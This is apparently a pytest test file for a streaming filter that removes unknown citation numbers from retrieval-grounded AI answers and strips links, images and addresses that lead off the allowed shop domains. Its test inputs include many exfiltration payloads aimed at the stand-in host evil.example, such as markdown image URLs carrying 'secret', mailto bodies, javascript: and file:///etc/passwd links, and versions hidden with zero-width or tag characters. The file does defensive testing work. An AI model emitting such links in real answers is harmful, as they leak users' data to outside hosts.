"""What leaves in an answer of a run that has read what others wrote."""

import random
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from orchestrator.grounding.addresses import Addresses
from orchestrator.grounding.exits import LONGEST_WORD, Exits

OURS = frozenset({"shop.example", "docs.shop.example"})


def left(text: str, *, sources: int = 3, given: str = "") -> str:
    exits = Exits(sources, Addresses(OURS, given))
    return exits.feed(text) + exits.end()


def in_pieces(text: str, seed: int) -> str:
    cut, exits, out, at = random.Random(seed), Exits(3, Addresses(OURS)), "", 0
    while at < len(text):
        size = cut.randint(1, 7)
        out += exits.feed(text[at : at + size])
        at += size
    return out + exits.end()


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("We open at 9 [1]. And then [99].", "We open at 9 [1]. And then."),
        ("So it is [1, 2, 7], [2-9] and [0].", "So it is [1][2], [2][3] and."),
        ("As 【2†source】 says, and [^3] too.", "As [2] says, and [3] too."),
        (r"Really \[99\] and &#91;98&#93; and [[4]].", "Really and and [ ]."),
        ("[Source 1] [source: 7]", "[1]"),
    ],
)
def test_a_number_that_is_no_source_never_leaves(said: str, shown: str) -> None:
    assert left(said) == shown
    assert {in_pieces(said, seed) for seed in range(20)} == {shown}


@pytest.mark.parametrize(
    "said",
    [
        "See [our returns](https://shop.example/returns?a=1_b).",
        "See https://docs.shop.example/a_b, or www.shop.example.",
        "**Bold**, *it*, `x.y()`, a < b, 3 > 2, AT&T, 50 %, e.g. p.m. at 9.30, U.S./Canada, and/or",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] one\n1. two\n\n```py\nx = a[i]\n```\n",
        "Done.It is report.pdf, Node.js and v1.2/x for 12.50/hour.",
        "中文没有空格的句子。日本語もそうです。",
    ],
)
def test_what_is_harmless_stays_as_it_was(said: str) -> None:
    assert left(said) == said


@pytest.mark.parametrize(
    "said",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/x",
        "[a](https://evil.example/x)",
        "[a](\nhttps://evil.example/x)",
        "[a](<https://evil.example/x>)",
        "[a](//evil.example/x)",
        "[a](/relative)",
        "[a](https://shop.example@evil.example/)",
        "[a](https://shop.example.evil.example/)",
        '[a](https://shop.example"@evil.example/)',
        "[sh](https://shop.example/)tps://evil.example/x",
        "<https://evil.example/x>",
        "<img src=https://evil.example/x>",
        "&lt;img src=https://evil.example/x&gt;",
        "&amp;lt;a href=https://evil.example&amp;gt;",
        "https&colon;//evil.example/x",
        r"https\://evil.example/x",
        "ht**tps://evil.exa**mple/x",
        "h\u200dttps://evil.exa\u200dmple/x",
        "https://evil\u3002example/x",
        "https://shop.example\u3002evil.example/x",
        "https://shop.example中.evil.example/x",
        "例え.example/secret",
        "www.evil.example",
        "secret.evil.example",
        "evil.example:80",
        "@evil.example",
        "http://203.0.113.7/x or 203.0.113.7/x",
        "write to thief@evil.example",
        "mailto:thief@evil.example?body=secret",
        "[call](javascript:alert(1))",
        "[f](file:///etc/passwd) [d](data:text/html,x)",
        "[a] [99](https://evil.example/x)",
        "[r] [99]: https://evil.example/x",
        "! [99][x](https://shop.example/x.png)",
        "x" * LONGEST_WORD + "](https://evil.example/x)",
        "\U000e0068\U000e0074tps://evil.example\U000e007f",
    ],
)
@pytest.mark.parametrize("seed", range(2))
def test_nothing_leads_elsewhere_however_it_is_written(said: str, seed: int) -> None:
    for shown in (left(said), in_pieces(said, seed)):
        assert leads(shown) == []


def leads(shown: str) -> list[str]:
    """Everything in it that loads or leads somewhere: in Markdown, and as plain text as a chat
    program reads it, which looks for names of hosts."""
    found: list[str] = []
    for block in MarkdownIt("commonmark").parse(shown):
        if block.type == "html_block":
            found.append(block.content)
        for token in block.children or ():
            if token.type in ("image", "html_inline"):
                found.append(token.type)
            if token.type == "link_open":
                address = str(token.attrs["href"])
                if not address.startswith(("https://shop.example/", "https://docs.shop.example")):
                    found.append(address)
    bare = shown.translate({ord(mark): None for mark in "*_~`\\\u200c\u200d"})
    bare = re.sub(r"(?:https?://)?(?:www\.|docs\.)?shop\.example(?=[/?#])\S*", "", bare)
    found += [word for word in bare.split() if re.search(r"evil\.example(?!\w)|://evil", word)]
    found += [word for word in bare.split() if "203.0" in word or ".example/secret" in word]
    return found


def test_a_mail_box_of_the_documents_is_shown_and_leads_nowhere() -> None:
    shown = left("Write to info@mail.example.", given="Write to info@mail.example any time.")
    assert shown == "Write to `info@mail.example`."


SEAMS = st.sampled_from(
    (
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ":",
        "/",
        "//",
        "http",
        "https://",
        "evil.example",
        ".",
        "a",
        " ",
        "\n",
        "shop.example",
        "[1]",
        "[9]",
        "&lt;",
        "&#91;",
        "\\",
        "*",
        "@",
        "www.",
        "。",
        "中",
        "-",
        ",",
    )
)


@settings(max_examples=60, deadline=None)
@given(st.lists(SEAMS, max_size=24).map("".join), st.integers(0, 9))
@example("]: ](", 1)
def test_what_is_shown_while_it_comes_is_what_is_kept(said: str, seed: int) -> None:
    whole = left(said)
    assert in_pieces(said, seed) == whole
    assert leads(whole) == []
    assert "[9]" not in whole


def test_text_is_held_back_only_as_long_as_it_may_change() -> None:
    exits = Exits(3, Addresses(OURS))
    assert exits.feed("We open at ") == "We open at"
    assert exits.feed("nine [") == " nine"
    assert exits.feed("1") == ""
    assert exits.feed("]. It") == " [1]."
    assert exits.feed("你好") == " It你好"
    assert exits.end() == ""
    assert sum(len(exits.feed("x" * 100)) for _ in range(100)) > 10_000 - 2 * LONGEST_WORD
